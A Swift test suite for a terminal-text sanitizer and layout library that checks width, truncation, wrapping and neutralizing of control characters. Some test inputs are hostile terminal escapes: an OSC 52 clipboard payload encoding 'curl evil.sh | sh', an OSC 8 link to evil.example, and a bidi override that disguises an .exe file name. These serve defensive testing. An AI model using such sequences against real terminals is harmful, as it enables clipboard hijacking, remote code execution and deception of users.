import Testing

@testable import ConvocaCore

/// Whether `u` must never reach the terminal as-is.
private func isDangerous(_ u: Unicode.Scalar, newlineAllowed: Bool) -> Bool {
  let v = u.value
  if v == 0x0A { return !newlineAllowed }
  return v <= 0x1F || (0x7F...0x9F).contains(v) || v == 0x061C || v == 0x200E || v == 0x200F
    || (0x202A...0x202E).contains(v) || (0x2066...0x2069).contains(v) || v == 0x2028 || v == 0x2029
}

/// Building blocks of hostile strings: controls, escapes, bidi, marks, joiners, wide text.
private let hostileAlphabet: [String] = [
  "a", "Z", "0", " ", "-", "\u{1B}", "\u{1B}[", "\u{1B}]", "\u{07}", "\u{00}", "\u{08}", "\r", "\n",
  "\r\n", "\t", "\u{7F}", "\u{85}", "\u{9B}", "\u{9C}", "\u{9D}", "\u{90}", "\u{061C}", "\u{200E}",
  "\u{200F}", "\u{202A}", "\u{202B}", "\u{202C}", "\u{202D}", "\u{202E}", "\u{2066}", "\u{2067}",
  "\u{2068}", "\u{2069}", "\u{2028}", "\u{2029}", "\u{206A}", "\u{FFF9}", "\u{0301}", "\u{0336}",
  "\u{0489}", "\u{094D}", "\u{200D}", "\u{200C}", "\u{FE0F}", "\u{FE0E}", "\u{1F3FD}", "😀", "👩",
  "❤", "中", "한", "\u{1100}", "\u{1161}", "\u{11A8}", "Ｆ", "é", "e", "🇨", "🇴", "\u{E0067}",
  "\u{0600}", "\u{200B}", "\u{FEFF}", "ﷺ", "…",
]

private func randomHostile(_ rng: inout SeededGenerator) -> String {
  let n = Int(rng.next() % 40)
  var s = ""
  for _ in 0..<n { s += hostileAlphabet[Int(rng.next() % UInt64(hostileAlphabet.count))] }
  return s
}

@Suite struct TerminalTextWidthTests {
  @Test func asciiIsUTF8Count() {
    #expect(TerminalText.width("") == 0)
    #expect(TerminalText.width("Convoca 2026: open call") == 23)
  }

  @Test func accentsPrecomposedAndDecomposed() {
    let precomposed = "Medell\u{00ED}n"
    let decomposed = "Medelli\u{0301}n"
    #expect(precomposed.unicodeScalars.count == 8)
    #expect(decomposed.unicodeScalars.count == 9)
    #expect(TerminalText.width(precomposed) == 8)
    #expect(TerminalText.width(decomposed) == 8)
    #expect(TerminalText.width("São Paulo, Zürich, Kraków") == 25)
  }

  @Test func cjkHangulKanaFullwidth() {
    #expect(TerminalText.width("中文") == 4)
    #expect(TerminalText.width("東京 2026") == 9)
    #expect(TerminalText.width("한국어") == 6)
    #expect(TerminalText.width("\u{1100}\u{1161}\u{11A8}") == 2)  // decomposed 각
    #expect(TerminalText.width("ひらがなカタカナ") == 16)
    #expect(TerminalText.width("ＡＢＣ１２３") == 12)
    #expect(TerminalText.width("\u{3000}") == 2)  // ideographic space
    #expect(TerminalText.width("ｶﾀｶﾅ") == 4)  // halfwidth katakana stay narrow
    #expect(TerminalText.width("𠀋") == 2)  // CJK extension B
  }

  @Test func emoji() {
    #expect(TerminalText.width("😀") == 2)
    #expect(TerminalText.width("👩‍👩‍👧") == 2)
    #expect(TerminalText.width("👩🏽‍💻") == 2)
    #expect(TerminalText.width("❤\u{FE0F}") == 2)
    #expect(TerminalText.width("❤") == 1)  // text presentation by default
    #expect(TerminalText.width("1\u{FE0F}\u{20E3}") == 2)  // keycap
    #expect(TerminalText.width("🇨🇴") == 2)  // flag
    #expect(TerminalText.width("☝\u{1F3FD}") == 2)  // modifier base + skin tone
    #expect(TerminalText.width("🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}") == 2)
    #expect(TerminalText.width("Deadline 🔥 soon") == 16)
  }

  @Test func zeroWidth() {
    #expect(TerminalText.width("\u{0301}") == 0)
    #expect(TerminalText.width("a\u{200B}b") == 2)
    #expect(TerminalText.width("\u{200D}") == 0)
    #expect(TerminalText.width("\u{2060}\u{FEFF}") == 0)
    #expect(TerminalText.width("\u{FE0F}") == 0)
    #expect(TerminalText.width("\u{1B}\u{07}") == 0)
    #expect(TerminalText.width(of: "\u{20DD}") == 0)  // enclosing mark alone
  }

  @Test func widthOfCharacter() {
    #expect(TerminalText.width(of: "a") == 1)
    #expect(TerminalText.width(of: "中") == 2)
    #expect(TerminalText.width(of: "e\u{0301}") == 1)
    #expect(TerminalText.width(of: "👩‍👩‍👧") == 2)
  }
}

@Suite struct TerminalTextSanitizeTests {
  @Test func asciiIsReturnedUnchanged() {
    let s = "Plain ASCII, nothing to see: ~!@#$%^&*()_+{}|"
    #expect(TerminalText.sanitize(s) == s)
    #expect(TerminalText.sanitize("two\nlines", keepNewlines: true) == "two\nlines")
    #expect(TerminalText.sanitize("Medellín 中文 😀 👩‍👩‍👧") == "Medellín 中文 😀 👩‍👩‍👧")
  }

  @Test func titleSettingOSC() {
    // ESC ] 2 ; title BEL — would rename the terminal window.
    #expect(TerminalText.sanitize("\u{1B}]2;pwned\u{07}") == "␛]2;pwned␇")
  }

  @Test func clearScreenCSI() {
    #expect(TerminalText.sanitize("\u{1B}[2J\u{1B}[H") == "␛[2J␛[H")
  }

  @Test func clipboardOSC52() {
    let s = "\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}"
    #expect(TerminalText.sanitize(s) == "␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇")
  }

  @Test func hyperlinkOSC8() {
    let s = "\u{1B}]8;;https://evil.example\u{1B}\\Apply here\u{1B}]8;;\u{1B}\\"
    #expect(TerminalText.sanitize(s) == "␛]8;;https://evil.example␛\\Apply here␛]8;;␛\\")
  }

  @Test func eightBitC1() {
    #expect(TerminalText.sanitize("\u{9B}2J") == "\u{FFFD}2J")
    #expect(TerminalText.sanitize("a\u{85}b\u{9D}c\u{9C}") == "a\u{FFFD}b\u{FFFD}c\u{FFFD}")
  }

  @Test func overprinting() {
    #expect(TerminalText.sanitize("Approved\rRejected") == "Approved␍Rejected")
    #expect(TerminalText.sanitize("ok\u{08}\u{08}no") == "ok␈␈no")
    #expect(TerminalText.sanitize("del\u{7F}") == "del␡")
    #expect(TerminalText.sanitize("nul\u{0}") == "nul␀")
  }

  @Test func tabsAndNewlines() {
    #expect(TerminalText.sanitize("a\tb") == "a b")
    #expect(TerminalText.sanitize("a\nb") == "a␊b")
    #expect(TerminalText.sanitize("a\nb", keepNewlines: true) == "a\nb")
    #expect(TerminalText.sanitize("a\r\nb", keepNewlines: true) == "a\nb")
    #expect(TerminalText.sanitize("a\r\nb") == "a␍␊b")
    #expect(TerminalText.sanitize("a\u{2028}b\u{2029}c", keepNewlines: true) == "a⟨LS⟩b⟨PS⟩c")
  }

  @Test func bidiOverrides() {
    // "invoice‮fdp.exe" displays as "invoiceexe.pdf" in a bidi-aware terminal.
    #expect(TerminalText.sanitize("invoice\u{202E}fdp.exe") == "invoice⟨RLO⟩fdp.exe")
    #expect(
      TerminalText.sanitize("\u{202A}\u{202B}\u{202C}\u{202D}\u{2066}\u{2067}\u{2068}\u{2069}")
        == "⟨LRE⟩⟨RLE⟩⟨PDF⟩⟨LRO⟩⟨LRI⟩⟨RLI⟩⟨FSI⟩⟨PDI⟩")
    #expect(TerminalText.sanitize("\u{200E}\u{200F}\u{061C}") == "⟨LRM⟩⟨RLM⟩⟨ALM⟩")
    // Arabic and Hebrew letters themselves are untouched.
    #expect(TerminalText.sanitize("مرحبا שלום") == "مرحبا שלום")
  }

  @Test func zalgoIsCut() throws {
    let marks = String(repeating: "\u{0301}\u{0316}\u{0336}\u{0489}\u{035C}", count: 10)
    let s = "a" + marks + "b"
    let out = TerminalText.sanitize(s)
    let first = try #require(out.first)
    #expect(s.count == 2)
    #expect(first.unicodeScalars.count == 1 + TerminalText.maxCombiningMarks)
    #expect(out.last == "b")
    #expect(TerminalText.width(out) == 2)
    // Ordinary accents and stacked Vietnamese diacritics survive.
    #expect(TerminalText.sanitize("Nguye\u{0302}\u{0303}n") == "Nguye\u{0302}\u{0303}n")
  }

  @Test func orphanMarksGetABase() {
    #expect(TerminalText.sanitize("\u{0301}x") == "\u{25CC}\u{0301}x")
    #expect(TerminalText.sanitize("\u{1B}\u{0301}") == "␛\u{25CC}\u{0301}")
    #expect(TerminalText.sanitize("\u{FE0F}") == "\u{25CC}\u{FE0F}")
  }

  @Test func straySkinTonesAndPrependedMarks() {
    #expect(TerminalText.sanitize("👍🏽") == "👍🏽")
    #expect(TerminalText.sanitize("-\u{1F3FD}") == "-")  // swatch glued to a non-emoji
    #expect(TerminalText.sanitize("\u{1F3FD}") == "\u{25CC}")  // swatch with no base at all
    #expect(TerminalText.width("\u{0600}1") == 1)  // prepended number sign takes no cell
    #expect(TerminalText.width(" \u{1F3FD}") == 3)  // unsanitised: space plus a swatch
  }

  @Test func emojiSequencesSurvive() {
    for e in ["👩‍👩‍👧", "👩🏻‍❤️‍💋‍👨🏼", "🏳️‍🌈", "1️⃣", "🇨🇴", "🏴\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}"] {
      #expect(TerminalText.sanitize(e) == e)
    }
    #expect(TerminalText.sanitize("\u{1B}👩‍👩‍👧") == "␛👩‍👩‍👧")
  }

  @Test func noDangerousScalarSurvives() {
    var rng = SeededGenerator(seed: 0xC0FF_EE00_2026)
    for _ in 0..<3000 {
      let s = randomHostile(&rng)
      for keep in [false, true] {
        let out = TerminalText.sanitize(s, keepNewlines: keep)
        for u in out.unicodeScalars {
          let hex = String(u.value, radix: 16)
          #expect(!isDangerous(u, newlineAllowed: keep), "U+\(hex) in \(out.debugDescription)")
        }
        for ch in out {
          let marks = ch.unicodeScalars.filter { TerminalText.isCountedMark($0) }.count
          #expect(marks <= TerminalText.maxCombiningMarks)
          #expect(ch.unicodeScalars.count <= TerminalText.maxClusterScalars)
          if let f = ch.unicodeScalars.first { #expect(!TerminalText.isOrphanStart(f)) }
        }
        let again = TerminalText.sanitize(out, keepNewlines: keep)
        #expect(again == out, "not idempotent: \(s.debugDescription)")
      }
    }
  }

  @Test func layoutInvariantsOnHostileText() {
    var rng = SeededGenerator(seed: 42)
    for _ in 0..<1000 {
      let line = TerminalText.sanitize(randomHostile(&rng))
      let w = Int(rng.next() % 12)
      #expect(TerminalText.width(TerminalText.truncate(line, toWidth: w)) <= w)
      #expect(TerminalText.width(TerminalText.pad(line, toWidth: w)) == w)
      let r = TerminalText.pad(line, toWidth: w, alignRight: true)
      #expect(TerminalText.width(r) == w, "\(r.unicodeScalars.map { String($0.value, radix: 16) })")
      let text = TerminalText.sanitize(randomHostile(&rng), keepNewlines: true)
      for l in TerminalText.wrap(text, width: max(2, w)) {
        #expect(TerminalText.width(l) <= max(2, w), "\(l.debugDescription)")
      }
    }
  }
}

@Suite struct TerminalTextLayoutTests {
  @Test func truncateASCII() {
    #expect(TerminalText.truncate("Convocatoria", toWidth: 20) == "Convocatoria")
    #expect(TerminalText.truncate("Convocatoria", toWidth: 12) == "Convocatoria")
    #expect(TerminalText.truncate("Convocatoria", toWidth: 8) == "Convoca…")
    #expect(TerminalText.truncate("Convocatoria", toWidth: 8, ellipsis: "...") == "Convo...")
    #expect(TerminalText.truncate("Convocatoria", toWidth: 2, ellipsis: "...") == "Co")
    #expect(TerminalText.truncate("Convocatoria", toWidth: 1) == "…")
    #expect(TerminalText.truncate("Convocatoria", toWidth: 0) == "")
    #expect(TerminalText.truncate("Convocatoria", toWidth: -3) == "")
  }

  @Test func truncateWideAtTheEdge() {
    // 中文字 is 6 cells; at 4 there is room for 3 before "…", and 文 would straddle it.
    #expect(TerminalText.truncate("中文字", toWidth: 4) == "中…")
    #expect(TerminalText.width(TerminalText.truncate("中文字", toWidth: 4)) == 3)
    #expect(TerminalText.truncate("中文字", toWidth: 5) == "中文…")
    #expect(TerminalText.truncate("中文字", toWidth: 6) == "中文字")
    #expect(TerminalText.truncate("a中文", toWidth: 4) == "a中…")
    #expect(TerminalText.truncate("ab😀cd", toWidth: 4) == "ab…")
    #expect(TerminalText.truncate("👩‍👩‍👧👩‍👩‍👧👩‍👩‍👧", toWidth: 5) == "👩‍👩‍👧👩‍👩‍👧…")
    #expect(TerminalText.truncate("Medelli\u{0301}n, Colombia", toWidth: 9) == "Medelli\u{0301}n…")
  }

  @Test func padToExactWidth() {
    #expect(TerminalText.pad("ab", toWidth: 5) == "ab   ")
    #expect(TerminalText.pad("ab", toWidth: 5, alignRight: true) == "   ab")
    #expect(TerminalText.pad("中文", toWidth: 5) == "中文 ")
    #expect(TerminalText.pad("中文字", toWidth: 4) == "中… ")
    #expect(TerminalText.pad("中文字", toWidth: 4, alignRight: true) == " 中…")
    #expect(TerminalText.pad("Medelli\u{0301}n", toWidth: 10) == "Medelli\u{0301}n  ")
    #expect(TerminalText.pad("x", toWidth: 0) == "")
    #expect(TerminalText.cell("\u{1B}[31mred", width: 8) == "␛[31mred")
    #expect(TerminalText.cell("\u{1B}[31mred!", width: 8) == "␛[31mre…")
  }

  @Test func wrapByCells() {
    #expect(TerminalText.wrap("the quick brown fox", width: 10) == ["the quick", "brown fox"])
    #expect(TerminalText.wrap("one\n\ntwo", width: 10) == ["one", "", "two"])
    #expect(TerminalText.wrap("", width: 10) == [""])
    #expect(TerminalText.wrap("supercalifragilistic", width: 8) == ["supercal", "ifragili", "stic"])
    #expect(TerminalText.wrap("a  b   c", width: 10) == ["a b c"])
    // Wide characters never straddle the edge.
    #expect(TerminalText.wrap("中文字中文", width: 5) == ["中文", "字中", "文"])
    #expect(TerminalText.wrap("ab 中文字", width: 5) == ["ab", "中文", "字"])
    #expect(TerminalText.wrap("😀😀😀 ok", width: 4) == ["😀😀", "😀", "ok"])
    #expect(TerminalText.wrap("Medelli\u{0301}n Medellín", width: 8) == ["Medelli\u{0301}n", "Medellín"])
    // Width 1 with a wide character: it gets a line of its own.
    #expect(TerminalText.wrap("a中", width: 1) == ["a", "中"])
  }
}

@Suite struct TerminalTextPortableTests {
  @Test func disputedClustersBecomeTheirFirstCharacterPadded() {
    #expect(TerminalText.portable("a 👩\u{200D}👩\u{200D}👧 b") == "a 👩 b")
    #expect(TerminalText.portable("❤\u{FE0F}|") == "❤ |")
    #expect(TerminalText.portable("1\u{FE0F}\u{20E3}|") == "1 |")
    #expect(TerminalText.portable("👍🏽|") == "👍|")
    #expect(TerminalText.portable("🇨🇴|") == "CO|")
  }

  @Test func keepsTheWidthAndLeavesEverythingElse() {
    for s in [
      "plain", "Medellín 中文 😀", "\u{1B}[1mbold\u{1B}[0m", "e\u{0301}", "👩\u{200D}💻 🏳\u{FE0F}\u{200D}🌈 🇪🇺 ✌🏿",
    ] {
      let clean = TerminalText.sanitize(s)
      let p = TerminalText.portable(clean)
      #expect(TerminalText.width(p) == TerminalText.width(clean), "\(s)")
      #expect(TerminalText.portable(p) == p, "idempotent: \(s)")
      #expect(!p.unicodeScalars.contains { TerminalText.isDisputed($0) }, "\(s)")
    }
    #expect(TerminalText.portable("Medellín 中文 😀") == "Medellín 中文 😀")
  }
}
